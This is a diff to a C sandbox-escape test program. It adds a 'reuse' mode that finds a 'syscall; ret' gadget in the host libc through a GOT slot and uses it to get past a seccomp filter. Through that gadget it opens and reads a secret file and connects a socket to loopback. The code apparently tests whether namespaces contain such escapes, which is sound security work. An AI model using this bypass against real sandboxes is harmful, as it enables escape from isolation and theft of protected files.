@@ -9,6 +9,10 @@
  *   escape gadget EXEMPT_END MARKERDIR
  *       jump to dce's exempt `syscall` instruction (just before EXEMPT_END) with
  *       openat(MARKERDIR/gadget, O_CREAT) in the registers; never returns.
+ *   escape reuse SELECTOR MARKERDIR SECRETFILE PORT GOTSLOT
+ *       as store, but through a `syscall; ret` in the host's libc, found from the
+ *       libc address in dce-run's GOT slot GOTSLOT: code reuse passes the seccomp
+ *       filter, so this is what the namespaces alone must contain.
  *   escape spin GCYCLES
  *       spin in user code for GCYCLES x 1e9 TSC cycles (no system call): wall time
  *       during which the test inspects the running dce-run. */
@@ -20,6 +24,7 @@
 #include <string.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
+#include <unistd.h>
 #include <x86intrin.h>
 
 static long raw(long n, long a, long b, long c, long d)
@@ -31,6 +36,28 @@ static long raw(long n, long a, long b, long c, long d)
 	return r;
 }
 
+static unsigned long gadget_addr;
+
+static long via_gadget(long n, long a, long b, long c, long d)
+{
+	long r;
+	register long r10 __asm__("r10") = d;
+	__asm__ volatile("call *%[g]" : "=a"(r) : [g] "r"(gadget_addr), "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
+	                 : "rcx", "r11", "memory");
+	return r;
+}
+
+/* dce-run's GOT slot of a libc function it has called (prctl) points into the
+ * host's libc; a `syscall; ret` follows within a few KiB. */
+static unsigned long find_gadget(const char *slot)
+{
+	const unsigned char *c = *(const unsigned char **)strtoul(slot, NULL, 0);
+	for (long off = 0; off < (1L << 20); off++)
+		if (c[off] == 0x0f && c[off + 1] == 0x05 && c[off + 2] == 0xc3)
+			return (unsigned long)(c + off);
+	return 0;
+}
+
 static int store(char **av)
 {
 	volatile unsigned char *sel = (unsigned char *)strtoul(av[2], NULL, 0);
@@ -39,15 +66,23 @@ static int store(char **av)
 	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(av[5])),
 	                          .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
 	long create, openr, readr = 0, sock, conn = 0;
+	long (*sys)(long, long, long, long, long) = raw;
+	if (!strcmp(av[1], "reuse")) {
+		if (!(gadget_addr = find_gadget(av[6]))) {
+			printf("no gadget found\n");
+			return 1;
+		}
+		sys = via_gadget;
+	}
 
 	*sel = 0; /* SYSCALL_DISPATCH_FILTER_ALLOW: from here on the host kernel decides */
-	create = raw(SYS_openat, AT_FDCWD, (long)path, O_CREAT | O_WRONLY, 0644);
-	openr = raw(SYS_openat, AT_FDCWD, (long)av[4], O_RDONLY, 0);
+	create = sys(SYS_openat, AT_FDCWD, (long)path, O_CREAT | O_WRONLY, 0644);
+	openr = sys(SYS_openat, AT_FDCWD, (long)av[4], O_RDONLY, 0);
 	if (openr >= 0)
-		readr = raw(SYS_read, openr, (long)buf, sizeof buf - 1, 0);
-	sock = raw(SYS_socket, AF_INET, SOCK_STREAM, 0, 0);
+		readr = sys(SYS_read, openr, (long)buf, sizeof buf - 1, 0);
+	sock = sys(SYS_socket, AF_INET, SOCK_STREAM, 0, 0);
 	if (sock >= 0)
-		conn = raw(SYS_connect, sock, (long)&sa, sizeof sa, 0);
+		conn = sys(SYS_connect, sock, (long)&sa, sizeof sa, 0);
 	*sel = 1; /* BLOCK again: printf below is emulated */
 
 	printf("create %ld\nopen %ld\nread %ld %s\nsocket %ld\nconnect %ld\n", create, openr, readr,
@@ -70,7 +105,7 @@ static int gadget(char **av)
 
 int main(int argc, char **argv)
 {
-	if (argc == 6 && !strcmp(argv[1], "store"))
+	if ((argc == 6 && !strcmp(argv[1], "store")) || (argc == 7 && !strcmp(argv[1], "reuse")))
 		return store(argv);
 	if (argc == 4 && !strcmp(argv[1], "gadget"))
 		return gadget(argv);
@@ -81,6 +116,6 @@ int main(int argc, char **argv)
 		printf("spun\n");
 		return 0;
 	}
-	fprintf(stderr, "usage: escape store SELECTOR MARKERDIR SECRETFILE PORT | gadget EXEMPT_END MARKERDIR | spin GCYCLES\n");
+	fprintf(stderr, "usage: escape store SELECTOR MARKERDIR SECRETFILE PORT | reuse ... PORT GOTSLOT | gadget EXEMPT_END MARKERDIR | spin GCYCLES\n");
 	return 2;
 }
